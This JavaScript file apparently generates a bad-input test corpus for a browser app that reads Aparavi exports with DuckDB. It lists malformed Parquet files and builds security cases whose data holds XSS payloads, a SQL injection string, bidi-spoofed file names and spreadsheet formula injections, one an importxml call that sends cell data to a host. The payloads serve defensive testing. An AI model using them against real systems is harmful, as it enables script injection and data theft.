	{ file: 'dict-page-offset-zero.parquet', what: 'a dictionary page offset of 0 (written by an old writer).' },
	{ file: 'datapage_v2.snappy.parquet', what: 'data page v2, snappy, a list column.' },
	{ file: 'datapage_v2_empty_datapage.snappy.parquet', what: 'an empty data page v2 that is "compressed" with no bytes.' },
	{ file: 'page_v2_empty_compressed.parquet', what: 'an all-null column whose zero bytes are zstd-compressed.' },
	{ file: 'int96_from_spark.parquet', what: 'INT96 timestamps from Spark, some out of the nanosecond range.' },
	{ file: 'fixed_length_decimal.parquet', what: 'decimals in fixed-length byte arrays.' },
	{ file: 'fixed_length_decimal_legacy.parquet', what: 'decimals in fixed-length byte arrays (legacy annotation).' },
	{ file: 'int32_decimal.parquet', what: 'decimals in INT32.' },
	{ file: 'int64_decimal.parquet', what: 'decimals in INT64.' },
	{ file: 'byte_array_decimal.parquet', what: 'decimals in variable-length byte arrays.' },
	{ file: 'float16_nonzeros_and_nans.parquet', what: 'float16 values with NaNs.' },
	{ file: 'nan_in_stats.parquet', what: 'NaN in the column statistics.' },
	{ file: 'single_nan.parquet', what: 'a single NaN.' },
	{ file: 'nulls.snappy.parquet', what: 'a struct column of nulls.' },
	{ file: 'binary.parquet', what: 'a binary (BLOB) column.' },
	{ file: 'nested_lists.snappy.parquet', what: 'lists of lists of lists.' },
	{ file: 'nested_maps.snappy.parquet', what: 'maps of maps.' },
	{ file: 'nested_structs.rust.parquet', what: 'deeply nested structs (Rust writer).' },
	{ file: 'nonnullable.impala.parquet', what: 'required nested lists, maps and structs (Impala).' },
	{ file: 'nullable.impala.parquet', what: 'optional nested lists, maps and structs (Impala).' },
	{ file: 'null_list.parquet', what: 'an empty list.' },
	{ file: 'list_columns.parquet', what: 'list columns of ints and strings.' },
	{ file: 'repeated_no_annotation.parquet', what: 'repeated groups without a LIST annotation.' },
	{ file: 'repeated_primitive_no_list.parquet', what: 'repeated primitives without a LIST annotation.' },
	{ file: 'old_list_structure.parquet', what: 'the legacy two-level list structure.' },
	{ file: 'map_no_value.parquet', what: 'a map without values.' },
	{ file: 'incorrect_map_schema.parquet', what: 'a map schema without required keys (Presto).' },
	{ file: 'unknown-logical-type.parquet', what: 'a logical type from the future.' },
	{ file: 'int32_with_null_pages.parquet', what: 'INT32 with whole pages of nulls.' },
	{ file: 'uniform_encryption.parquet.encrypted', what: 'an encrypted Parquet file (footer and columns).', error: true, codes: ['unsupported-file'] },
	// Bad data: a message naming the file; the three native DuckDB reads anyway may be read here too.
	{ file: 'bad_data/PARQUET-1481.parquet', what: 'a corrupted schema Thrift value.', error: true },
	{ file: 'bad_data/ARROW-RS-GH-6229-DICTHEADER.parquet', what: 'a negative value count in a dictionary page header.', error: true },
	{ file: 'bad_data/ARROW-RS-GH-6229-LEVELS.parquet', readable: true, what: 'a page with too few repetition levels.', error: true },
	{ file: 'bad_data/ARROW-GH-41321.parquet', what: 'fewer decoded levels than the page header says.', error: true },
	{ file: 'bad_data/ARROW-GH-45185.parquet', readable: true, what: 'repetition levels starting with 1.', error: true },
	{ file: 'bad_data/ARROW-GH-43605.parquet', readable: true, what: 'a dictionary index page with an RLE bit width of 0.', error: true },
	{ file: 'bad_data/ARROW-GH-47662.parquet', what: 'nulls in a required column.', error: true }
];

/** Hostile text: markup, SQL metacharacters, bidi overrides and zero-width characters. */
export const HOSTILE = {
	xss: '<img src=x onerror=window.__xss=1>',
	script: '<script>window.__xss=2</script>',
	sql: "'; drop table files; --",
	bidi: '\u202etxt.exe',
	zeroWidth: 'pdf\u200b\u200d\ufeff'
};

/**
 * An Aparavi export whose names, extensions and folders are hostile text, with a 4,096-character
 * path whose top folder alone is 3,000 characters. Counts per extension and per top folder are
 * tallied here from the rows as written, for the e2e test to compare with what the page shows.
 */
async function hostileExport(conn, d) {
	const long = `${'L'.repeat(1500)}/${'o'.repeat(1499)}/`; // 3,001 characters: the top folder's first two segments...
	const longFolder = `${long}n/`; // ...and a third, so the top folder is long + 'n/'
	const longPath = longFolder + 'g'.repeat(4096 - longFolder.length - 4) + '.txt';
	const folders = {
		p1: `${HOSTILE.xss}/${HOSTILE.sql}/data/deep/`,
		p2: `Shares/${HOSTILE.bidi}\u200b/${HOSTILE.script}/x/`,
		p3: longFolder
	};
	const top = (folder) => folder.match(/^\/?(?:[^/]*(?:\/|$)){1,3}/)[0];
	// [extension as stored, folder, name, how many files]
	const groups = [
		[HOSTILE.xss, 'p1', `${HOSTILE.xss}.html`, 3],
		[HOSTILE.sql, 'p1', `x${HOSTILE.sql}.sql`, 5],
		[HOSTILE.bidi, 'p2', `invoice${HOSTILE.bidi}`, 7],
		[HOSTILE.zeroWidth, 'p2', `report.${HOSTILE.zeroWidth}`, 11],
		['txt', 'p3', longPath.slice(longFolder.length), 2]
	];
	const objects = [];
	const instances = [];
	let id = 0;
	for (const [ext, parent, name, n] of groups) {
		for (let i = 0; i < n; i++) {
			id++;
			objects.push([`o${id}`, parent, 'idxobject', name, ext, id, T_OLD]);
			instances.push([id, `o${id}`, id * 10, Math.floor(T_OLD / 1000), T_NEW, T_NEW, null]);
		}
	}
	const tables = standardTables({ objects, instances, parentPaths: Object.entries(folders) });
	await writeTables(conn, tables);
	const files = [];
	for (const table of Object.keys(tables)) {
		await copy(conn, table, join(d, `${table}.parquet`), 'parquet');
		files.push(`${table}.parquet`);
		await conn.run(`DROP TABLE ${JSON.stringify(table)}`);
	}
	const byExtension = {};
	const byTopFolder = {};
	for (const [ext, parent, , n] of groups) {
		byExtension[ext] = (byExtension[ext] ?? 0) + n;
		byTopFolder[top(folders[parent])] = (byTopFolder[top(folders[parent])] ?? 0) + n;
	}
	if (longPath.length !== 4096) throw new Error(`the long path is ${longPath.length} characters`);
	return { files, total: id, byExtension, byTopFolder, longTopFolder: top(folders.p3), hostile: HOSTILE };
}

/* ============================================================================================== */
/* Security cases: nothing leaves the browser, no formula escapes, no script runs.               */
/* Kept in one block of their own, apart from the rest of the corpus.                            */
/* ============================================================================================== */

/** A host that never resolves (RFC 2606): a request to it is a foreign request, whatever answers. */
export const FOREIGN_HOST = 'example.invalid';

/** Text that would run as a formula in a spreadsheet, and what each export must write instead. */
export const FORMULA_NAMES = [
	['=1+1.txt', "'=1+1.txt"],
	['-0+importxml(concat("http://x/?",a1),"/")', `'-0+importxml(concat("http://x/?",a1),"/")`],
	['+cmd.exe', "'+cmd.exe"],
	['@SUM(A1).xlsx', "'@SUM(A1).xlsx"],
	['\t=tab.txt', "'\t=tab.txt"],
	['\r=cr.txt', "'\r=cr.txt"]
];
/** Names and folders that only look odd: every export writes them exactly as they are. */
export const PLAIN_NAMES = ['.profile', '10-Q.pdf', '2024 budget.xlsx', '<b>bold</b>.html', ';semi.txt'];
export const PLAIN_FOLDERS = ['/srv/data/', '/home/user/.config/', '.hidden/cache/', '2024/reports/q1/'];
/** Extensions with a formula lead: the top-extensions chart's labels. */
export const FORMULA_EXTENSIONS = ['=1+1', '-2+3', '@sum', '+cmd'];

/** Markup in names, extensions and folders that would set window.__pwned if it ever ran. */
export const SCRIPT_TEXT = {
	img: '<img src=x onerror="window.__pwned=1">',
	svg: '<svg onload=window.__pwned=2>',
	script: '"><script>window.__pwned=3</script>',
	link: 'javascript:window.__pwned=4',
	iframe: '<iframe srcdoc="<script>parent.__pwned=5</script>">'
};

/** A minimal valid SQLite 3 database (one table, one leaf page of rows), written byte by byte. */
export function sqliteDatabase(table, columns, rows) {
	const PAGE = 4096;
	const varint = (n) => {
		const bytes = [n & 0x7f];
		for (let v = n >>> 7; v > 0; v >>>= 7) bytes.unshift((v & 0x7f) | 0x80);
		return bytes;
	};
	const record = (values) => {
		const types = [];
		const body = [];
		for (const v of values) {
			if (v === null) types.push(0);
			else if (typeof v === 'number') {
				const b = Buffer.alloc(8);
				b.writeBigInt64BE(BigInt(v));
				types.push(6);
				body.push(...b);
			} else {
				const b = Buffer.from(String(v), 'utf8');
				types.push(b.length * 2 + 13);
				body.push(...b);
			}
		}
		const typeBytes = types.flatMap(varint);
		const headerSize = typeBytes.length + 1 < 128 ? typeBytes.length + 1 : typeBytes.length + 2;
		return [...varint(headerSize), ...typeBytes, ...body];
	};
	// A table b-tree leaf page: cells from the end of the page, their pointers after the page header.
	const leafPage = (records, headerAt) => {
		const page = Buffer.alloc(PAGE);
		let end = PAGE;
		records.forEach((values, i) => {
			const payload = record(values);
			const cell = Buffer.from([...varint(payload.length), ...varint(i + 1), ...payload]);
			end -= cell.length;
			cell.copy(page, end);
			page.writeUInt16BE(end, headerAt + 8 + i * 2);
		});
		page[headerAt] = 0x0d;
		page.writeUInt16BE(records.length, headerAt + 3);
		page.writeUInt16BE(end, headerAt + 5);
		return page;
	};
	const create = `CREATE TABLE ${table}(${columns.map(([n, t]) => `${n} ${t}`).join(', ')})`;
	const first = leafPage([['table', table, table, 2, create]], 100);
	// The 100-byte database header: page size, file format 1, payload fractions, 2 pages, schema format 4, UTF-8.
	first.write('SQLite format 3\0', 0, 'latin1');
	first.writeUInt16BE(PAGE, 16);
	first.set([1, 1, 0, 64, 32, 32], 18);
	first.writeUInt32BE(1, 24);
	first.writeUInt32BE(2, 28);
	first.writeUInt32BE(1, 40);
	first.writeUInt32BE(4, 44);
	first.writeUInt32BE(1, 56);
	first.writeUInt32BE(1, 92);
	first.writeUInt32BE(3040001, 96);
	return Buffer.concat([first, leafPage(rows, 0)]);
}

/**
 * Replace a string in a .duckdb file by another of the same length, keeping its blocks valid: a
 * view over a URL cannot be created by native DuckDB here (binding it would need the httpfs
 * extension and the network), so the view is created over a local file whose path has the URL's
 * length, and the path is swapped for the URL. Blocks follow the 3 header blocks, 256 KiB each,
 * starting with a checksum over the rest: 5381 XOR each 8-byte word × 0xbf58476d1ce4e5b9, so a
 * changed word updates the sum by two products (as the storage-ancient case does for the header).
 */
function patchDuckdbString(file, from, to) {
	if (Buffer.byteLength(from) !== Buffer.byteLength(to)) throw new Error('the swapped strings must have the same length');
	const HEADER = 3 * 4096;
	const BLOCK = 256 * 1024;
	const mix = (w) => (w * 0xbf58476d1ce4e5b9n) & 0xffffffffffffffffn;
	const bytes = readFileSync(file);
	let found = 0;
	for (let at = bytes.indexOf(from); at >= 0; at = bytes.indexOf(from, at + 1)) {
		const block = HEADER + Math.floor((at - HEADER) / BLOCK) * BLOCK;
		const word = (i) => block + 8 + Math.floor((i - block - 8) / 8) * 8;
		const words = [];
		for (let w = word(at); w <= word(at + from.length - 1); w += 8) words.push([w, bytes.readBigUInt64LE(w)]);
		bytes.write(to, at);
		let sum = bytes.readBigUInt64LE(block);
		for (const [w, before] of words) sum ^= mix(before) ^ mix(bytes.readBigUInt64LE(w));
		bytes.writeBigUInt64LE(sum, block);
		found++;
	}
	if (!found) throw new Error(`${from} is not in ${file}`);
	writeFileSync(file, bytes);
}

/**
 * A .duckdb whose `table` is a view over `reader(url)`: created over a local copy of the rows (at a
 * relative path as long as the URL), then pointed at the URL. The other tables are ordinary.
 */
async function remoteViewCase(conn, dir, name, { table, reader, url, tables }) {
	const d = dir(name);
	// A relative path as long as the URL, found through file_search_path while the view is bound.
	const file = `${table}.x`;
	const rel = `${'q'.repeat(url.length - file.length - 1)}/${file}`;
	mkdirSync(join(d, rel, '..'), { recursive: true });
	await writeTables(conn, { [table]: tables[table] });
	await conn.run(`COPY ${JSON.stringify(table)} TO ${lit(join(d, rel))} (${reader === 'read_parquet' ? 'FORMAT parquet' : 'FORMAT csv, HEADER true'})`);
	await conn.run(`DROP TABLE ${JSON.stringify(table)}`);
	const db = join(d, 'export.duckdb');
	await conn.run(`ATTACH ${lit(db)} AS x (STORAGE_VERSION 'v1.0.0')`);
	await conn.run('USE x');
	await writeTables(conn, Object.fromEntries(Object.entries(tables).filter(([t]) => t !== table)));
	await conn.run(`SET file_search_path = ${lit(d)}`);
	await conn.run(`CREATE VIEW ${JSON.stringify(table)} AS SELECT * FROM ${reader}(${lit(rel)})`);
	await conn.run('RESET file_search_path');
	await conn.run('USE memory');
	await conn.run('DETACH x');
	patchDuckdbString(db, rel, url);
	rmSync(join(d, rel, '..'), { recursive: true, force: true });
	return ['export.duckdb'];
}

/**
 * Cases where an export tries to make the engine reach out (a SQLite file, views over URLs, URLs
 * in the data), formula text every export must defuse, and markup that must never run.
 */
async function securityCases(conn, dir, { exportCase }) {
	const cases = [];
	const escape = (s) => s.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');

	// A SQLite database named .db: DuckDB would fetch its sqlite extension from the extension site.
	{
		const d = dir('sqlite-db');
		writeFileSync(join(d, 'export.db'), sqliteDatabase('objects', [['objectId', 'TEXT'], ['name', 'TEXT'], ['primarySize', 'INTEGER']], [['o1', 'a.txt', 100], ['o2', 'b.pdf', 2000]]));
		cases.push({ name: 'sqlite-db', files: ['export.db'], expect: { error: 'export\\.db is a SQLite database' } });
	}

	// A .duckdb whose objects table is a view over a CSV on another host.
	{
		const url = `https://${FOREIGN_HOST}/aparavi/objects.csv`;
		const files = await remoteViewCase(conn, dir, 'remote-view-csv', { table: 'objects', reader: 'read_csv', url, tables: standardTables(plainExport(4)) });
		cases.push({ name: 'remote-view-csv', files, expect: { error: `Table objects in export\\.duckdb is a view that reads ${escape(url)}` } });
	}

	// A .duckdb whose objects are a table but whose instances are a view over remote Parquet.
	{
		const url = `http://${FOREIGN_HOST}/exports/2024/instances.parquet`;
		const files = await remoteViewCase(conn, dir, 'remote-view-parquet', { table: 'instances', reader: 'read_parquet', url, tables: standardTables(plainExport(4)) });
		cases.push({ name: 'remote-view-parquet', files, expect: { error: `Table instances in export\\.duckdb is a view that reads ${escape(url)}` } });
	}

	// URLs as data: names, folders and extensions that are addresses, UNC paths, and Parquet
	// key-value metadata naming a URL. They are text: shown, counted, never fetched.
	{
		const { objects, instances } = plainExport(4);
		objects[0][3] = `https://${FOREIGN_HOST}/a.png`;
		objects[1][3] = `\\\\${FOREIGN_HOST}\\share\\b.doc`;
		objects[2][4] = `//${FOREIGN_HOST}/x`;
		const parentPaths = [
			['p1', `http://${FOREIGN_HOST}/share/`],
			['p2', `\\\\${FOREIGN_HOST}\\c$\\`]
		];
		const d = dir('urls-in-data');
		await writeTables(conn, standardTables({ objects, instances, parentPaths }));
		await conn.run(`COPY objects TO ${lit(join(d, 'objects.parquet'))} (FORMAT parquet, KV_METADATA { source: 'https://${FOREIGN_HOST}/export', schema: 'http://${FOREIGN_HOST}/schema.json' })`);
		await conn.run(`COPY instances TO ${lit(join(d, 'instances.parquet'))} (FORMAT parquet)`);
		await copy(conn, 'parentPaths', join(d, 'parentPaths.csv'), 'csv');
		for (const t of ['objects', 'instances', 'parentPaths']) await conn.run(`DROP TABLE ${JSON.stringify(t)}`);
		cases.push({ name: 'urls-in-data', files: ['objects.parquet', 'instances.parquet', 'parentPaths.csv'], expect: { kpis: { files: 4, bytes: 1000, folders: 2 } } });
	}

	// Formula text in names, extensions and folders; folders starting with `/`, `.` or a digit.
	// Every export must defuse the first and leave the rest alone.
	{
		const folders = [...PLAIN_FOLDERS, '@team/shared/', '-dash/'];
		const parentPaths = folders.map((f, i) => [`p${i}`, f]);
		const names = [...FORMULA_NAMES.map(([n]) => n), ...PLAIN_NAMES];
		const objects = [];
		const instances = [];
		names.forEach((name, i) => {
			const ext = i < FORMULA_EXTENSIONS.length ? FORMULA_EXTENSIONS[i] : 'txt';
			// Distinct sizes, largest first in name order, so every file is among the largest.
			const size = (names.length - i) * 1000;
			objects.push([`o${i + 1}`, `p${i % folders.length}`, 'idxobject', name, ext, size, T_OLD]);
			instances.push([i + 1, `o${i + 1}`, size, Math.floor(T_OLD / 1000), T_NEW, T_NEW, null]);
		});
		const files = await exportCase('formula-cells', standardTables({ objects, instances, parentPaths }));
		const bytes = instances.reduce((n, r) => n + r[2], 0);
		cases.push({
			name: 'formula-cells',
			files,
			expect: { kpis: { files: names.length, bytes, folders: folders.length } },
			formula: { names: FORMULA_NAMES, plainNames: PLAIN_NAMES, plainFolders: PLAIN_FOLDERS, extensions: FORMULA_EXTENSIONS }
		});
	}

	// Markup in names, extensions and folders that sets window.__pwned if it ever runs.
	{
		const texts = Object.values(SCRIPT_TEXT);
		const parentPaths = texts.map((t, i) => [`p${i}`, `/share/${t}/`]);
		const objects = texts.map((t, i) => [`o${i + 1}`, `p${i}`, 'idxobject', `${t}.html`, t, (i + 1) * 10, T_OLD]);
		const instances = texts.map((_, i) => [i + 1, `o${i + 1}`, (i + 1) * 10, Math.floor(T_OLD / 1000), T_NEW, T_NEW, null]);
		const files = await exportCase('script-names', standardTables({ objects, instances, parentPaths }));
		cases.push({ name: 'script-names', files, expect: { kpis: { files: texts.length, bytes: 150, folders: texts.length } } });
	}
	return cases;
}

/** A regex of the manifest as the words it stands for (for the table in docs/ROBUSTNESS.md). */
const words = (re) => re.replace(/\\([.()?/|])/g, '$1').replace(/\.\*/g, '…').replace(/\\/g, '');

/** What a case must end in, in a sentence. */
function outcome(e) {
	if (e.error !== undefined) {
		const codes = e.codes ?? (e.code ? [e.code] : []);
		return `message${codes.length ? ` (${codes.join(' or ')})` : ''}: “${words(e.error)}…”${e.orMapping ? '; or read (mapping dialog)' : ''}`;
	}
	if (e.mapping) return `mapping dialog${e.mapping.columns ? ` offering its ${e.mapping.columns.length} columns` : ''}`;
	const figures = Object.entries(e.kpis ?? {}).map(([k, v]) => `${k} ${typeof v === 'number' && k.endsWith('Modified') ? new Date(v).toISOString().slice(0, 10) : v}`);
	const notes = Object.entries(e.notes ?? {}).map(([k, v]) => `note ${k} = ${v}`);
	return `Summary: ${[...figures, ...notes, ...(e.note ? [`note “${words(e.note)}”`] : [])].join(', ')}`;
}

/** The corpus as a Markdown table: case, what it is, what the app must do. */
export function corpusTable(manifest) {
	const cell = (t) => String(t).replace(/\|/g, '\\|').replace(/\n/g, ' ');
	return ['| case | what it is | expected outcome |', '| --- | --- | --- |', ...manifest.cases.map((c) => `| ${c.name} | ${cell(c.what ?? 'see "Nothing leaves the browser"')} | ${cell(outcome(c.expect))} |`)].join('\n');
}

if (import.meta.url === `file://${process.argv[1]}`) {
	const i = process.argv.indexOf('--out');
	const manifest = await generateBadInputs(i > 0 ? process.argv[i + 1] : undefined);
	if (process.argv.includes('--table')) console.log(corpusTable(manifest));
	else console.log(`${manifest.cases.length} cases`);
}
